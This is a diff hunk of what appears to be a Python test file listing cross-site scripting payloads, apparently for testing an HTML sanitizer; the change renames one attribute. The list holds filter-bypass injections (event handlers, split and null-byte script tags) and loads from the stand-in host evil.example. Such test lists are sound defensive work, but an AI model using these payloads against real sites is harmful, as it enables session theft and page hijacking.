@@ -35,7 +35,7 @@ _ENTER = (
     "<img srcset='//evil.example/a.png 1x' src=x>", "<a ping=//evil.example/ href=/x>x</a>", "<body background=//evil.example/b.png>",
     "<table background=//evil.example/b.png><td style='background:url(//evil.example/c.png)'>",
     f"<form id=shareForm><input name=people><input id=share name=attributes onfocus={RUN}>", "<a id=reciprocity name=take href=cid:x>x</a>",
-    f"<div data-md-component=announce data-search data-random data-copy data-share data-narrow='x'>{RUN}</div>",
+    f"<div data-md-component=announce data-search data-random data-copy data-share data-filter='x'>{RUN}</div>",
     f"<portal src=//evil.example></portal><fencedframe></fencedframe><marquee onstart={RUN}>", f"<!--<script>--><img src=x onerror={RUN}>",
     "<script\x0csrc=//evil.example/x.js></script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<ſcript>{RUN}</ſcript>", f"<%00script>{RUN}</script>",
 )  # fmt: skip
